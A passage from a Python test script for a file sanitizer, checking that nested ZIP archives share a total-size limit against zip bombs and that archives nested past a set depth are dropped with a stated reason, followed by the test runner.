        for n in top.namelist():
            if n.endswith('.zip'):
                total += sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(top.read(n))).infolist())
    report('nested ZIPs share SanitizeZipMaxTotal: %d bytes of members out for an 8 MB total'
           % total, res[0] != 'sanitized' or (total <= 8000000 and 'zip bomb' in LAST['members']),
           '%s %s' % (res, LAST.get('members')))
    deep = zip_bytes([('l3.txt', b'three\n')])
    for lvl in (3, 2):
        deep = zip_bytes([('l%d.zip' % lvl, deep), ('l%d.txt' % (lvl - 1), b'text\n')])
    dp = os.path.join(WORK, 'deep.zip')
    open(dp, 'wb').write(deep)
    res = sanitize(dp, '--zip-depth', '2')
    ok = res[0] == 'sanitized' and 'l3.zip' in LAST['members'] and \
        'SanitizeZipMaxDepth' in LAST['members']
    report('ZIP in ZIP in ZIP: the third level is left out with the reason (SanitizeZipMaxDepth 2)',
           ok, '%s %s' % (res, LAST['members']))


def main():
    global CDR, WORK
    CDR, WORK = sys.argv[1], sys.argv[2]
    for t in (test_pdfs, test_images, test_text, test_zip, test_office):
        try:
            t()
        except Exception as e:  # a crash of the test is a failure, never a pass
            import traceback
            traceback.print_exc()
            report(t.__name__, False, 'exception %r' % e)
    print('%d passed, %d failed, %d skipped' % (results['passed'], results['failed'],
                                                results['skipped']))
    sys.exit(1 if results['failed'] else 0)


if __name__ == '__main__':
    main()
